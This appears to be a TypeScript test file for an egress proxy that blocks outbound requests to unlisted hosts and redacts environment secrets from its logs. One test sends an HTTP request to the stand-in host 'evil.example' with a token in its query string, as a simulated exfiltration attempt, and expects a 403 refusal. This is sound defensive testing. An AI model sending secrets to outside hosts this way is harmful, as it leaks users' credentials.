import type { EventBodies } from '@cairn/journal'
import { createRedactor } from '@cairn/guard'
import { connect, createServer } from 'node:net'
import type { AddressInfo } from 'node:net'
import { expect, test } from 'vitest'
import { sessionEgress } from './session-egress.ts'

const key = 'Zq8-v2RkT5.wX9_mB3nL7pC1'

test('attempts are recorded without the secrets in them', async () => {
  const records: EventBodies['egress.attempted'][] = []
  const egress = sessionEgress({
    layers: [
      {
        name: 'user',
        file: null,
        defaults: {},
        rules: [{ id: 'one', effect: 'allow', host: ['registry.example'], reason: 'r' }],
      },
    ],
    secrets: [],
    env: { SOME_TOKEN: key },
    now: () => 0,
    redactor: createRedactor({ registered: [], env: { SOME_TOKEN: key }, salt: Buffer.alloc(8) }),
    record: (attempt) => records.push(attempt),
  })
  const listener = createServer()
  egress?.serve(listener)
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const answer = await new Promise<string>((resolve) => {
    const socket = connect((listener.address() as AddressInfo).port, '127.0.0.1')
    let text = ''
    socket.on('data', (chunk) => (text += chunk.toString()))
    socket.on('close', () => resolve(text))
    socket.write(`GET http://evil.example/?k=${key}x HTTP/1.1\r\nHost: evil.example\r\n\r\n`)
    socket.write(`GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n`)
  })
  listener.close()
  expect(answer).toContain('403')
  expect(records[0]).toMatchObject({ phase: 'refused', host: 'evil.example', address: null })
  expect(JSON.stringify(records)).not.toContain(key)
})

test('without a rule about hosts there is no way out', () => {
  const redactor = createRedactor({ registered: [], env: {}, salt: Buffer.alloc(8) })
  const options = { layers: [], secrets: [], env: {}, now: () => 0, redactor, record: () => {} }
  expect(sessionEgress(options)).toBeNull()
})
